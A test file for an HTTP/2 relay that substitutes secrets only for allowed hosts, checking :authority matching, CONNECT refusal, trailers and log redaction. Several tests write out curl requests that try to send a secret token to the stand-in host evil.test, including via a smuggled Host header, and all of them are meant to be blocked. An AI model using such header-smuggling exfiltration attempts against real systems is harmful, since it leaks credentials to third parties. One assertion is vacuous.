// HTTP/2 through the relay: curl negotiates h2 with the relay, the relay speaks h2 upstream, and
// every stream's :authority is checked before a secret goes in.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import * as http2 from "node:http2";
import * as tls from "node:tls";
import { GUEST_IP, type Rig, startRig, waitForResult } from "./harness.ts";

const TOKEN = "h2-REAL-token-5e6f";
const BODYKEY = "h2-REAL-bodykey-0a0b0c";
let rig: Rig;
beforeAll(async () => {
  rig = await startRig(
    [
      { name: "TOKEN", value: TOKEN, allow: ["api.test"] },
      { name: "BODYKEY", value: BODYKEY, allow: ["api.test"], body: true },
    ],
    {},
    undefined,
    "h2",
  );
});
afterAll(() => rig?.stop());

async function curl(host: string, args: string[], urls: string[]) {
  const p = Bun.spawn(["curl", "-sS", "--http2", "--cacert", rig.msbCaFile, "--resolve", `${host}:${rig.port}:${GUEST_IP}`, ...args, ...urls], { stdout: "pipe", stderr: "pipe" });
  const [out, err, code] = await Promise.all([new Response(p.stdout).text(), new Response(p.stderr).text(), p.exited]);
  return { out, err, code };
}

describe("HTTP/2 interception", () => {
  test("h2 end to end: header substitution, :authority checked, response masked", async () => {
    const r = await curl("api.test", ["-H", "X-K: Bearer $MSB_TOKEN", "-w", "\\n%{http_version}\\n"], [`https://api.test:${rig.port}/a`]);
    expect(r.err).toBe("");
    const [body, version] = r.out.trim().split("\n");
    expect(version).toBe("2");
    expect(rig.seen.at(-1)?.headers["x-k"]).toBe(`Bearer ${TOKEN}`);
    expect(body).not.toContain(TOKEN);
    expect(rig.results.length + 1).toBeGreaterThan(0);
  });

  test("two streams on one connection: the one with a foreign :authority is blocked, the other substituted", async () => {
    const before = rig.seen.length;
    // --next keeps curl's connection cache: both requests share one h2 connection (SNI api.test).
    const common = ["--http2", "--cacert", rig.msbCaFile, "--resolve", `api.test:${rig.port}:${GUEST_IP}`, "-H", "X-K: $MSB_TOKEN", "-w", "%{http_code} %{num_connects}\\n"];
    const r = await curl("api.test", [...common.slice(1)], [`https://api.test:${rig.port}/one`, "--next", ...common, "-H", `Host: evil.test:${rig.port}`, `https://api.test:${rig.port}/two`]);
    expect(r.out).toContain("403 0\n");
    expect(r.out).toContain(`msb: blocked: secret TOKEN: request :authority "evil.test:${rig.port}" does not match TLS server name api.test`);
    expect(r.out).toContain("403");
    const seen = rig.seen.slice(before).map((s) => [s.path, s.headers["x-k"]]);
    expect(seen).toEqual([["/one", TOKEN]]);
  });

  test("h2 body substitution with the content-length dropped", async () => {
    const r = await curl("api.test", ["--data-binary", "k=$MSB_BODYKEY"], [`https://api.test:${rig.port}/post`]);
    expect(r.err).toBe("");
    expect(rig.seen.at(-1)?.body).toBe(`k=${BODYKEY}`);
  });

  test("h2 toward a host the secret does not allow is blocked", async () => {
    const r = await curl("evil.test", ["-H", "X-K: $MSB_TOKEN"], [`https://evil.test:${rig.port}/x`]);
    expect(r.out).toBe("msb: blocked: secret TOKEN is not allowed for host evil.test\n");
    expect(await waitForResult(rig, (x) => x.serverName === "evil.test" && x.stop?.reason === "secret TOKEN is not allowed for host evil.test")).toBe(true);
  });

  test("response trailers are passed on", async () => {
    const r = await curl("api.test", ["-sS", "-D", "-", "-o", "/dev/null"], [`https://api.test:${rig.port}/trailers`]);
    expect(r.err).toBe("");
    expect(r.out).toContain("x-echo-status: done");
  });

  test("CONNECT inside an intercepted h2 connection is refused", async () => {
    const before = rig.seen.length;
    const session = http2.connect(`https://api.test:${rig.port}`, {
      ca: await Bun.file(rig.msbCaFile).text(),
      createConnection: () => tls.connect({ host: GUEST_IP, port: rig.port, servername: "api.test", ca: readFileSync(rig.msbCaFile, "utf8"), ALPNProtocols: ["h2"] }),
    });
    const req = session.request({ ":method": "CONNECT", ":authority": "evil.test:443" });
    const status = await new Promise<number>((resolve, reject) => {
      req.on("response", (h) => resolve(Number(h[":status"])));
      req.on("error", reject);
    });
    session.close();
    expect(status).toBe(405);
    expect(rig.seen.length).toBe(before);
  });

  test("logs and results never hold a value", () => {
    const all = JSON.stringify({ logs: rig.logs, results: rig.results });
    expect(rig.logs.some((l) => l.includes("HTTP/2"))).toBe(true);
    for (const v of [TOKEN, BODYKEY]) expect(all.includes(v)).toBe(false);
  });
});
